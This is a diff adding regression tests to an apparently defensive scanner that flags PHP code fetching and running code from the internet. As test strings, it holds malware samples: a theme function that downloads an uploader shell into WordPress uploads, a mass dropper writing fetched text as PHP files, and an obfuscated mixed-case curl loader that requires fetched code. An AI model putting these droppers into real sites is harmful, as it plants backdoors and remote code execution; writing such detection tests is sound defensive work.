@@ -1550,6 +1550,30 @@ mod tests {
         let picture = "<?php $GLOBALS['k'] = 'a'; function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); return curl_exec($c); }\n\
             ${$GLOBALS['k']} = get('https://user-images.githubusercontent.com/1/2-3.jpg');\neval('?>' . ${$GLOBALS['k']});";
         assert!(whys("a.php", picture).contains(&Why::CodeFromInternet), "{:?}", whys("a.php", picture));
+        // Regression: fresh104's theme head has curl save an uploader from GitHub itself
+        // (`CURLOPT_FILE`); its mass dropper saves a text from there as PHP in many folders;
+        // its loader writes names in any case and runs the text from a temporary file.
+        let theme = "<?php function dl($u, $p) { $ch = curl_init($u); $fp = fopen($p, 'w'); curl_setopt($ch, CURLOPT_FILE, $fp); curl_exec($ch); fclose($fp); }\n\
+            dl('https://raw.githubusercontent.com/x/shell/main/upload.php', wp_upload_dir()['basedir'] . '/archive.php');";
+        assert!(whys("functions.php", theme).contains(&Why::CodeFromInternet), "{:?}", whys("functions.php", theme));
+        let mass = "<?php $files = [['url' => 'https://raw.githubusercontent.com/x/room/refs/heads/main/gecko.txt']];\n\
+            foreach ($files as $f) { $c = @file_get_contents($f['url']); foreach ($dirs as $d) { file_put_contents($d . '/' . rand(1, 9) . '.php', $c); } }";
+        assert!(whys("msal.php", mass).contains(&Why::CodeFromInternet), "{:?}", whys("msal.php", mass));
+        let cased = "<?= $url = 'https://raw.githubusercontent.com/x/simpan/refs/heads/main/anon.txt';\n\
+            $ch = CurL_init /* a */($url); cUrl_setOpt($ch, CURLOPT_RETURNTRANSFER, TRUE); $res = curl_ExEC/* b */($ch);\n\
+            $tmp = TMPfIle(); $path = streaM_Get_meTa_daTa($tmp); $path = $path['uri']; fprintf($tmp, '%s', $res); ReqUire/* c */$path; ?>";
+        assert!(!whys("bypassblank.php", cased).is_empty(), "{:?}", whys("bypassblank.php", cased));
+        // A list kept on GitHub, fetched and cached as data, is data.
+        let list = "<?php $l = file_get_contents('https://raw.githubusercontent.com/x/lists/main/bots.json'); file_put_contents(__DIR__ . '/bots.json', $l);";
+        assert!(whys("update-list.php", list).is_empty(), "{:?}", whys("update-list.php", list));
+        // Regression (Yii's `MimeTypeController.php`): PHP generated from a list fetched there.
+        let generator = "<?php if ($src = file_get_contents('https://raw.githubusercontent.com/apache/httpd/trunk/docs/conf/mime.types')) {\n\
+            $content = '<?php return ' . var_export(parse($src), true) . ';'; file_put_contents(__DIR__ . '/mimeTypes.php', $content); }";
+        assert!(
+            whys("MimeTypeController.php", generator).is_empty(),
+            "{:?}",
+            whys("MimeTypeController.php", generator)
+        );
         // A picture from there shown in a page is a picture.
         let shown = "<?php $p = file_get_contents('https://user-images.githubusercontent.com/1/2-3.jpg'); echo base64_encode($p);";
         assert!(whys("a.php", shown).is_empty());
